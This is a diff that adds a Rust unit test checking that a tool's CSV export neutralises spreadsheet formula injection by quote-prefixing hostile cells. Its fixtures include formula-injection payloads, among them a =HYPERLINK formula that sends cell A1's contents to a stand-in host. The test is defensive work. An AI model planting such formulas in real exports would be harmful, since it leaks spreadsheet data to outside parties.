@@ -477,3 +477,42 @@ fn bad_run_folders_are_bad_input() {
     let e = sweep::sweep(&dir, &policy(), 0).unwrap_err();
     assert!(e.is_bad_input(), "{e}");
 }
+
+#[test]
+fn csv_cells_that_a_spreadsheet_would_run_are_neutralised_and_numbers_stay_numbers() {
+    let hostile = |kind, id, score, reasons: &[&str]| sweep::Difference {
+        kind,
+        id,
+        score,
+        label: None,
+        reasons: reasons.iter().map(|r| r.to_string()).collect(),
+    };
+    let c = sweep::Comparison {
+        run_dir: PathBuf::from("/runs/run=2026-11-24"),
+        a: "a".into(),
+        b: "b".into(),
+        flagged_a: Default::default(),
+        flagged_b: Default::default(),
+        only_a_counts: Default::default(),
+        only_b_counts: Default::default(),
+        only_a: vec![
+            hostile(Entity::Group, 1, 0.5, &["=HYPERLINK(\"http://x.example/?\"&A1,\"open\")"]),
+            hostile(Entity::Group, 2, 0.25, &["+1+1", "rule:x"]),
+            hostile(Entity::Account, 3, 0.125, &["-2+3"]),
+            hostile(Entity::Account, 4, 0.0, &["@SUM(A1:A2)"]),
+        ],
+        only_b: vec![hostile(Entity::Group, 5, 1.0, &["\tcmd"]), hostile(Entity::Group, 6, 1.0, &["\r=1"]), hostile(Entity::Group, 7, 1.0, &["rule:ok"])],
+    };
+    let csv = sweep::compare_csv(&c);
+    assert_eq!(
+        csv,
+        "flagged_only_by,entity_kind,entity_id,score,label,reasons\n\
+         A,group,1,0.500000,,\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"open\"\")\"\n\
+         A,group,2,0.250000,,\"'+1+1;rule:x\"\n\
+         A,account,3,0.125000,,\"'-2+3\"\n\
+         A,account,4,0.000000,,\"'@SUM(A1:A2)\"\n\
+         B,group,5,1.000000,,\"'\tcmd\"\n\
+         B,group,6,1.000000,,\"'\r=1\"\n\
+         B,group,7,1.000000,,rule:ok\n"
+    );
+}
